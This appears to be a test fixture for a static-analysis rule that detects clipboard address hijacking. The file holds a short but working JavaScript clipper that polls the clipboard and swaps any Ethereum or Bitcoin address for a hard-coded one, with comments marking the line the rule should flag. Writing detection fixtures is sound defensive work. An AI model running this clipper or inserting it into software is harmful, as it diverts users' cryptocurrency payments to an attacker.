// Fixture for generic-clipboard-address-hijack: the whole file is one case (file-level rule).
// RULEID: a clipper that reads the clipboard, swaps ETH/BTC addresses for hard-coded ones and writes back.
// OK: the clipboard write itself is not reported (the finding sits on the read). A whole benign file
//   (a wallet UI with paste and copy buttons) cannot share this file, so tests/rules/test_file_level_rules.py
//   scans one and expects nothing.
const ETH = /0x[a-fA-F0-9]{40}/g;
const BTC = /\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g;
const MINE = { eth: "0x9f3A6c4B2e7D8a1F0b5C3d2E1f4A6b7C8d9E0f1A", btc: "1BoatSLRHtKNngkdXEeobR76b53LETtpyT" };

setInterval(async () => {
  // ruleid: generic-clipboard-address-hijack
  const text = await navigator.clipboard.readText();
  const swapped = text.replace(ETH, MINE.eth).replace(BTC, MINE.btc);
  // ok: generic-clipboard-address-hijack
  if (swapped !== text) await navigator.clipboard.writeText(swapped);
}, 500);
